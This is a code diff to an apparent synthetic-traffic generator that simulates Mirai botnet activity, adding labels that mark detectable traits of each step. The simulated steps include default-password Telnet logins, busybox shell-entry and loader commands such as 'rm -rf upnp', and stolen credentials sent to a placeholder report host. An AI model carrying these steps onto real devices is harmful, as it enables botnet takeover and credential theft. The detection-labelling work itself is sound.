@@ -9,6 +9,7 @@ import ipaddress
 import struct
 
 from generate.attacks.credentials import draw
+from generate.attacks.implied import answers_outside, default_used, in_clear, note_all
 from generate.link import udp_frame
 from generate.protocols import elf, http, tftp
 from generate.sessions import conversation, lookup, telnet_login
@@ -18,7 +19,8 @@ from generate.timeline import SECOND, ordered
 # Attack vectors by the number that the command carries.
 VECTORS = {"udp": 0, "vse": 1, "dns": 2, "syn": 3, "ack": 4, "stomp": 5, "gre-ip": 6,
            "gre-eth": 7, "udp-plain": 9, "http": 10}
-_SHELL = ("enable", "system", "shell", "sh", "/bin/busybox {token}")
+_SCANNER_SHELL = ("enable", "system", "shell", "sh", "/bin/busybox {token}")
+_LOADER_SHELL = ("enable", "shell", "sh", "/bin/busybox {token}")
 
 
 def _applet(token):
@@ -31,8 +33,8 @@ def _shell(talk, command, answer):
     talk.server(f"{command}\r\n{answer}".encode("latin-1"), after=talk.hosts[1].turn + 9000)
 
 
-def _enter(talk, token):
-    for line in _SHELL:
+def _enter(talk, lines, token):
+    for line in lines:
         command = line.format(token=token)
         _shell(talk, command, _applet(token) if "busybox" in line else "\r\n# ")
 
@@ -62,16 +64,19 @@ def _guesses(scene, ask, where, guesses):
                            victim)
     guessed = scene.truth("password-guessed", "harm", "a default Telnet password was right", bot,
                           victim)
+    clear = in_clear(scene, "telnet", bot, victim)
+    default = default_used(scene, "telnet", bot, victim, guesses[-1])
+    outside = answers_outside(scene, bot, victim, "telnet")
     frames, at = [], ask.at
     for number, (user, password) in enumerate(guesses):
         last = number + 1 == len(guesses)
         talk = conversation(scene.home, bot, victim, port, at).open()
         telnet_login(talk, user, password, last)
         if last:
-            _enter(talk, "MIRAI")
+            _enter(talk, _SCANNER_SHELL, "MIRAI")
         talk.close()
-        made = guessing.note(talk.timeline())
-        frames += guessed.note(made) if last else made
+        made = note_all(talk.timeline(), guessing, clear, outside)
+        frames += note_all(made, *((guessed, default) if last else ()))
         at = talk.clock + SECOND
     return frames, at
 
@@ -88,7 +93,7 @@ def _load(scene, ask, where, login, at):
                           victim)
     talk = conversation(scene.home, loader, victim, port, at).open()
     telnet_login(talk, *login, True)
-    _enter(talk, "ECCHI")
+    _enter(talk, _LOADER_SHELL, "ECCHI")
     _look_around(talk, image)
     frames = []
     if way == "echo":
@@ -105,7 +110,10 @@ def _load(scene, ask, where, login, at):
            "listening tun0\r\nIHCCE: applet not found\r\n# ")
     _shell(talk, "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI", _applet("ECCHI"))
     talk.close()
-    session_frames = session.note(talk.timeline())
+    session_frames = note_all(talk.timeline(), session,
+                              in_clear(scene, "telnet", loader, victim),
+                              default_used(scene, "telnet", loader, victim, login),
+                              answers_outside(scene, loader, victim, "telnet"))
     if way == "echo":
         truth.note(session_frames)
     return session_frames + frames
@@ -183,7 +191,7 @@ def _report(scene, ask, bot, success, at):
     victim, port, (user, password) = success
     server = ask.foe("report", "report.example")
     truth = scene.truth("mirai-report", "harm", "a guessed password is reported", bot, server)
-    frames = _lookup_past_gateway(scene.home, bot, server, at)
+    frames = _lookup_past_gateway(scene, bot, server, at)
     talk = conversation(scene.home, bot, server, 48101, frames[-1][0] + 2000).open()
     message = b"\0" + victim.ip + struct.pack("!H", port)
     message += bytes([len(user)]) + user.encode() + bytes([len(password)]) + password.encode()
@@ -191,9 +199,12 @@ def _report(scene, ask, bot, success, at):
     return truth.note(frames + talk.timeline()), talk.clock
 
 
-def _lookup_past_gateway(home, bot, server, at):
+def _lookup_past_gateway(scene, bot, server, at):
     """Mirai's resolver asks 8.8.8.8, whatever DHCP said."""
-    return lookup(home, bot, server, at, resolver=home.host("8.8.8.8"))
+    resolver = scene.home.host("8.8.8.8")
+    truth = scene.truth("dns-bypass", "notice", "asks 8.8.8.8 instead of the gateway", bot,
+                        resolver)
+    return truth.note(lookup(scene.home, bot, server, at, resolver=resolver))
 
 
 def command(vector, seconds, targets, options=()):
@@ -217,7 +228,7 @@ def command_channel(scene, ask):
     orders = sorted(ask.get("commands", []), key=lambda order: order["at"])
     source, every = ask.get("id", "telnet.mips"), ask.micros("every", 60)
     truth = scene.truth("mirai-c2", "harm", "Mirai's command channel", bot, server)
-    frames = _lookup_past_gateway(scene.home, bot, server, ask.at)
+    frames = _lookup_past_gateway(scene, bot, server, ask.at)
     talk = conversation(scene.home, bot, server, ask.get("port", 23), frames[-1][0] + 3000).open()
     talk.client(b"\0\0\0\x01", after=500)
     talk.client(bytes([len(source)]) + source.encode(), after=300)
